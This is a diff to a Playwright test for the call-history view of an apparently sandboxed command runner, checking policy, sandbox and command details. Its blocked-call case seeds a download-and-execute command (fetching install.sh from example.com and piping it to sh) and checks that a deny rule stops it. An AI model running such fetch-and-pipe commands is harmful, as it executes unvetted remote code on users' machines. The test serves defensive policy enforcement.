@@ -77,7 +77,8 @@ test('History lists calls newest first, pages, filters, opens a call in full and
   await expect(page.getByTestId('history-detail-stderr-text')).toContainText('AssertionError: add(2, 3) returned -1, expected 5')
   await expect(page.getByTestId('history-detail-status')).toHaveText('success')
   await expect(detail).toContainText('Exit code1')
-  await expect(page.getByTestId('history-detail-policy')).toContainText('commands.default')
+  await expect(page.getByTestId('history-detail-policy')).toContainText('allow')
+  await expect(page.getByTestId('history-detail-commands')).toHaveText('python3 test_calc.py')
   await expect(page.getByTestId('history-detail-provider')).toContainText('bubblewrap+seccomp')
   await expect(page.getByTestId('history-detail-provider')).toContainText('✓ syscalls restricted')
   await expect(page.getByTestId('history-detail-provider')).toContainText('the Docker engine is not running')
@@ -88,9 +89,12 @@ test('History lists calls newest first, pages, filters, opens a call in full and
   // A blocked call: the deny rule, its risk flags and the error.
   // Another row opens from the part of the table the pane leaves visible.
   await page.getByTestId(`history-row-${seeded.blocked}`).locator('td').first().click()
-  await expect(page.getByTestId('history-detail-policy')).toContainText('network.egress')
-  await expect(page.getByTestId('history-detail-policy')).toContainText('pipe_to_shell')
-  await expect(page.getByTestId('history-detail-error')).toContainText('policy.denied')
+  await expect(page.getByTestId('history-detail-policy')).toContainText('deny.download_execute')
+  await expect(page.getByTestId('history-detail-policy')).toContainText('network')
+  await expect(page.getByTestId('history-detail-taint')).toContainText('CONFIDENTIAL')
+  await expect(page.getByTestId('history-detail-commands')).toHaveText('curl https://example.com/install.sh\nsh')
+  await expect(page.getByTestId('history-detail-error')).toContainText('policy.blocked')
+  await page.screenshot({ path: test.info().outputPath('history-detail-blocked.png') })
   await page.keyboard.press('Escape')
   await expect(detail).toBeHidden()
 
